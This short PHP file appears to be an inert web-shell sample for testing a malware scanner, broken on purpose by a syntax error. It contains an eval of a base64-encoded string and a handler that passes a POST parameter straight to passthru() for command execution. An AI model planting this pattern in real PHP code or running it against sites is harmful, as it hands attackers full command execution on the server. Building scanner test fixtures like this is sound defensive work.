<?php
shodo inert sample: deliberate syntax error, this file never runs
if (!function_exists("getmicrotime")) { function getmicrotime() { list($usec, $sec) = explode(" ", microtime()); return ((float)$usec + (float)$sec); } } $shell_data = "JHZpc2l0Y291bnQgPSAkSFRUUF9DT09LSUVfVkFSU1sidmlzaXRzIl07"; eval(base64_decode($shell_data)); if ($_POST['cmd']) { $cmd = $_POST['cmd']; echo "<pre>"; passthru($cmd); echo "</pre>"; }
